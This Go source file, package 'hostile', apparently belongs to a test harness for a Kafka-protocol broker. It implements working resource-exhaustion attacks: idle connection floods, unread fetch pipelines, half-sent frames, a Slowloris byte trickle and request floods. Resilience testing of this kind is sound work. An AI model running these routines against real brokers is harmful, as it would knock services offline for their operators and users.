package hostile

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/twmb/franz-go/pkg/kmsg"
)

// Held is a set of connections an attack keeps open, and the goroutines
// that work them, until Close. Safe for concurrent use.
type Held struct {
	stop chan struct{} // closed by Close: goroutines return
	once sync.Once
	wg   sync.WaitGroup // the attack's goroutines

	mu    sync.Mutex
	conns []net.Conn // guarded by mu
}

func newHeld() *Held { return &Held{stop: make(chan struct{})} }

func (h *Held) add(c net.Conn) {
	h.mu.Lock()
	h.conns = append(h.conns, c)
	h.mu.Unlock()
}

// Len is the number of connections held (open or closed by the broker).
func (h *Held) Len() int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return len(h.conns)
}

// Close stops the attack's goroutines and closes every connection. It
// returns once the goroutines have returned. Idempotent.
func (h *Held) Close() {
	h.once.Do(func() {
		close(h.stop)
		h.mu.Lock()
		for _, c := range h.conns {
			_ = c.Close()
		}
		h.mu.Unlock()
	})
	h.wg.Wait()
}

// ClosedByPeer counts held connections the broker has closed: a read that
// returns EOF or a reset within a short deadline. Data read is discarded;
// call it only on connections whose responses do not matter.
func (h *Held) ClosedByPeer() int {
	h.mu.Lock()
	conns := append([]net.Conn(nil), h.conns...)
	h.mu.Unlock()
	var closed atomic.Int64
	var wg sync.WaitGroup
	next := atomic.Int64{}
	for w := 0; w < 32; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			buf := make([]byte, 4096)
			for {
				i := int(next.Add(1)) - 1
				if i >= len(conns) {
					return
				}
				c := conns[i]
				_ = c.SetReadDeadline(time.Now().Add(20 * time.Millisecond))
				_, err := c.Read(buf)
				if err != nil && !isTimeout(err) {
					closed.Add(1)
				}
			}
		}()
	}
	wg.Wait()
	return int(closed.Load())
}

func isTimeout(err error) bool {
	var ne net.Error
	return errors.As(err, &ne) && ne.Timeout() || errors.Is(err, os.ErrDeadlineExceeded)
}

func isPeerClosed(err error) bool {
	return errors.Is(err, io.EOF) || errors.Is(err, syscall.ECONNRESET) || errors.Is(err, syscall.EPIPE)
}

// Idle opens n connections that never send a byte, dialing from a few
// goroutines until deadline. It returns the held connections and how many
// dials failed or were not tried (with the first failure).
func Idle(addr string, n int, deadline time.Time) (*Held, int, error) {
	h := newHeld()
	var failed atomic.Int64
	var first atomic.Value
	var next atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < 16; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for next.Add(1) <= int64(n) {
				c, err := DialBy(addr, deadline)
				if err != nil {
					if failed.Add(1) == 1 {
						first.Store(err)
					}
					continue
				}
				h.add(c)
			}
		}()
	}
	wg.Wait()
	err, _ := first.Load().(error)
	return h, int(failed.Load()), err
}

// FetchPipeline sends n Fetch requests for partition 0 of topic from
// offset 0, each allowing maxBytes, on one connection that never reads an
// answer (its receive buffer made small so the broker's answers back up at
// the broker, not in this kernel).
func FetchPipeline(addr, topic string, n int, maxBytes int32) (*Held, error) {
	c, err := Dial(addr)
	if err != nil {
		return nil, err
	}
	if tc, ok := c.(*net.TCPConn); ok {
		_ = tc.SetReadBuffer(16 << 10)
	}
	h := newHeld()
	h.add(c)
	var frames []byte
	for i := 0; i < n; i++ {
		req := kmsg.NewPtrFetchRequest()
		req.Version = 11
		req.MaxWaitMillis = 200
		req.MinBytes = 1
		req.MaxBytes = maxBytes
		rt := kmsg.NewFetchRequestTopic()
		rt.Topic = topic
		rp := kmsg.NewFetchRequestTopicPartition()
		rp.Partition = 0
		rp.FetchOffset = 0
		rp.PartitionMaxBytes = maxBytes
		rt.Partitions = append(rt.Partitions, rp)
		req.Topics = append(req.Topics, rt)
		frames = AppendRequest(frames, req, int32(i))
	}
	_ = c.SetWriteDeadline(time.Now().Add(10 * time.Second))
	if _, err := c.Write(frames); err != nil {
		h.Close()
		return nil, fmt.Errorf("write %d fetches: %w", n, err)
	}
	return h, nil
}

// HalfSentStats counts what the half-sent frames achieved.
type HalfSentStats struct {
	Conns     int   // connections dialed
	BytesSent int64 // bytes the broker's socket took, over all connections
	Completed int   // connections that sent every byte they meant to
	Stalled   int   // connections whose writes stopped moving (the broker stopped reading)
	Closed    int   // connections the broker closed
}

// HalfSent starts n connections that each announce a frame of frameSize
// bytes and send only the first send bytes of it, then hold. A write that
// does not move for stall marks the connection stalled and it stops
// writing. Wait returns the stats once every connection has stopped
// writing. Dialing stops at deadline.
func HalfSent(addr string, n, frameSize, send int, stall time.Duration, deadline time.Time) *HalfSentAttack {
	a := &HalfSentAttack{Held: newHeld(), written: make(chan struct{})}
	var writers sync.WaitGroup
	for i := 0; i < n; i++ {
		c, err := DialBy(addr, deadline)
		if err != nil {
			continue
		}
		a.add(c)
		writers.Add(1)
		a.wg.Add(1)
		go func() {
			defer a.wg.Done()
			a.write(c, frameSize, send, stall, writers.Done)
		}()
	}
	go func() { writers.Wait(); close(a.written) }()
	return a
}

// HalfSentAttack is a running HalfSent.
type HalfSentAttack struct {
	*Held
	written                     chan struct{} // closed when every writer has stopped writing
	sent                        atomic.Int64
	completed, stalled, closedN atomic.Int64
}

func (a *HalfSentAttack) write(c net.Conn, frameSize, send int, stall time.Duration, written func()) {
	defer written()
	// A Produce header, so a broker that looks at the head early sees a
	// request it serves; the rest is zeros that never end.
	head := binary.BigEndian.AppendUint32(nil, uint32(frameSize))
	head = binary.BigEndian.AppendUint16(head, 0) // Produce
	head = binary.BigEndian.AppendUint16(head, 8) // v8
	head = binary.BigEndian.AppendUint32(head, 1) // correlation id
	head = binary.BigEndian.AppendUint16(head, uint16(len(clientID)))
	head = append(head, clientID...)
	chunk := make([]byte, 1<<20)
	left := send - (len(head) - 4)
	buf := head
	for {
		select {
		case <-a.stop:
			return
		default:
		}
		_ = c.SetWriteDeadline(time.Now().Add(stall))
		k, err := c.Write(buf)
		a.sent.Add(int64(k))
		switch {
		case err != nil && isTimeout(err):
			a.stalled.Add(1)
			return
		case err != nil:
			a.closedN.Add(1)
			return
		}
		if left <= 0 {
			a.completed.Add(1)
			return
		}
		buf = chunk[:min(left, len(chunk))]
		left -= len(buf)
	}
}

// Wait returns the stats once every connection has stopped writing, or
// when timeout passes (then with the counts so far).
func (a *HalfSentAttack) Wait(timeout time.Duration) HalfSentStats {
	select {
	case <-a.written:
	case <-time.After(timeout):
	}
	return HalfSentStats{
		Conns: a.Len(), BytesSent: a.sent.Load(),
		Completed: int(a.completed.Load()), Stalled: int(a.stalled.Load()), Closed: int(a.closedN.Load()),
	}
}

// SlowlorisAttack is a running Slowloris.
type SlowlorisAttack struct {
	*Held
	trickled atomic.Int64 // bytes sent after the frame size
	closedN  atomic.Int64 // connections the broker closed
}

// Trickled is the number of bytes sent one at a time so far.
func (a *SlowlorisAttack) Trickled() int64 { return a.trickled.Load() }

// ClosedCount is the number of connections the broker has closed so far
// (seen by a failing write).
func (a *SlowlorisAttack) ClosedCount() int { return int(a.closedN.Load()) }

// Slowloris opens n connections (dialing until deadline) that announce a
// frame of frameSize bytes and then send one byte of it per interval
// until Close.
func Slowloris(addr string, n, frameSize int, interval time.Duration, deadline time.Time) *SlowlorisAttack {
	a := &SlowlorisAttack{Held: newHeld()}
	var live []net.Conn // owned by the trickling goroutine once started
	prefix := binary.BigEndian.AppendUint32(nil, uint32(frameSize))
	for i := 0; i < n; i++ {
		c, err := DialBy(addr, deadline)
		if err != nil {
			continue
		}
		a.add(c)
		_ = c.SetWriteDeadline(time.Now().Add(time.Second))
		if _, err := c.Write(prefix); err != nil {
			a.closedN.Add(1)
			continue
		}
		live = append(live, c)
	}
	a.wg.Add(1)
	go func() {
		defer a.wg.Done()
		tick := time.NewTicker(interval)
		defer tick.Stop()
		one := []byte{0}
		for {
			select {
			case <-a.stop:
				return
			case <-tick.C:
			}
			kept := live[:0]
			for _, c := range live {
				_ = c.SetWriteDeadline(time.Now().Add(50 * time.Millisecond))
				if _, err := c.Write(one); err != nil {
					if !isTimeout(err) {
						a.closedN.Add(1)
						continue
					}
				} else {
					a.trickled.Add(1)
				}
				kept = append(kept, c)
			}
			live = kept
		}
	}()
	return a
}

// PipelineResult counts a pipelined run.
type PipelineResult struct {
	Sent, Answered int
	OutOfOrder     int   // answers whose correlation id was not the next expected
	Err            error // the first transport error, if any
}

// Pipeline sends perConn ApiVersions requests back to back on each of
// conns connections, reading the answers as they come, until all are
// answered or deadline passes.
func Pipeline(addr string, conns, perConn int, deadline time.Time) PipelineResult {
	var mu sync.Mutex
	var res PipelineResult
	var wg sync.WaitGroup
	for i := 0; i < conns; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			r := pipelineOne(addr, perConn, deadline)
			mu.Lock()
			defer mu.Unlock()
			res.Sent += r.Sent
			res.Answered += r.Answered
			res.OutOfOrder += r.OutOfOrder
			if res.Err == nil {
				res.Err = r.Err
			}
		}()
	}
	wg.Wait()
	return res
}

func pipelineOne(addr string, n int, deadline time.Time) PipelineResult {
	var res PipelineResult
	c, err := Dial(addr)
	if err != nil {
		res.Err = err
		return res
	}
	defer c.Close()
	_ = c.SetDeadline(deadline)
	var sent atomic.Int64
	writeErr := make(chan error, 1)
	go func() {
		const chunk = 1000
		var buf []byte
		for i := 0; i < n; i += chunk {
			buf = buf[:0]
			for j := i; j < min(i+chunk, n); j++ {
				req := kmsg.NewPtrApiVersionsRequest()
				req.Version = 3
				req.ClientSoftwareName = "hostile"
				req.ClientSoftwareVersion = "1"
				buf = AppendRequest(buf, req, int32(j))
			}
			if _, err := c.Write(buf); err != nil {
				writeErr <- err
				return
			}
			sent.Store(int64(min(i+chunk, n)))
		}
		writeErr <- nil
	}()
	// Buffered: 100,000 small answers read two syscalls each would load
	// this process's share of the CPU the stall is measured on.
	br := bufio.NewReaderSize(c, 64<<10)
	for res.Answered < n {
		corr, _, err := ReadResponse(br, 1<<20)
		if err != nil {
			res.Err = fmt.Errorf("after %d answers: %w", res.Answered, err)
			break
		}
		if int(corr) != res.Answered {
			res.OutOfOrder++
		}
		res.Answered++
	}
	_ = c.Close() // unblocks the writer if it is still writing
	if err := <-writeErr; err != nil && res.Err == nil {
		res.Err = fmt.Errorf("write: %w", err)
	}
	res.Sent = int(sent.Load())
	return res
}

// ProduceOutcome is what the broker said about one raw produced batch.
type ProduceOutcome struct {
	Code       int16  // the partition's error code (0: acked)
	Message    string // the partition's error message, if any
	BaseOffset int64
	Err        error // no answer: the transport failed (e.g. the broker closed the connection)
}

// ProduceRaw sends each batch in its own Produce v8 request (acks=all) to
// partition 0 of topic, pipelined on one connection, and reads the answers
// until timeout.
func ProduceRaw(addr, topic string, batches [][]byte, timeout time.Duration) []ProduceOutcome {
	out := make([]ProduceOutcome, len(batches))
	fail := func(from int, err error) []ProduceOutcome {
		for i := from; i < len(out); i++ {
			out[i].Err = err
		}
		return out
	}
	c, err := Dial(addr)
	if err != nil {
		return fail(0, err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(timeout))
	writeErr := make(chan error, 1)
	go func() {
		for i, b := range batches {
			req := kmsg.NewPtrProduceRequest()
			req.Version = 8
			req.Acks = -1
			req.TimeoutMillis = int32(timeout / time.Millisecond)
			rt := kmsg.NewProduceRequestTopic()
			rt.Topic = topic
			rp := kmsg.NewProduceRequestTopicPartition()
			rp.Partition = 0
			rp.Records = b
			rt.Partitions = append(rt.Partitions, rp)
			req.Topics = append(req.Topics, rt)
			if _, err := c.Write(AppendRequest(nil, req, int32(i))); err != nil {
				writeErr <- err
				return
			}
		}
		writeErr <- nil
	}()
	for i := range batches {
		corr, rest, err := ReadResponse(c, 16<<20)
		if err != nil {
			_ = c.Close()
			<-writeErr
			return fail(i, err)
		}
		if int(corr) != i {
			out[i].Err = fmt.Errorf("answer %d has correlation id %d", i, corr)
			continue
		}
		resp := kmsg.NewPtrProduceResponse()
		resp.Version = 8
		if err := DecodeResponse(resp, rest); err != nil {
			out[i].Err = err
			continue
		}
		if len(resp.Topics) != 1 || len(resp.Topics[0].Partitions) != 1 {
			out[i].Err = fmt.Errorf("answer %d: %d topics", i, len(resp.Topics))
			continue
		}
		p := resp.Topics[0].Partitions[0]
		out[i].Code, out[i].BaseOffset = p.ErrorCode, p.BaseOffset
		if p.ErrorMessage != nil {
			out[i].Message = *p.ErrorMessage
		}
	}
	_ = c.Close()
	<-writeErr
	return out
}
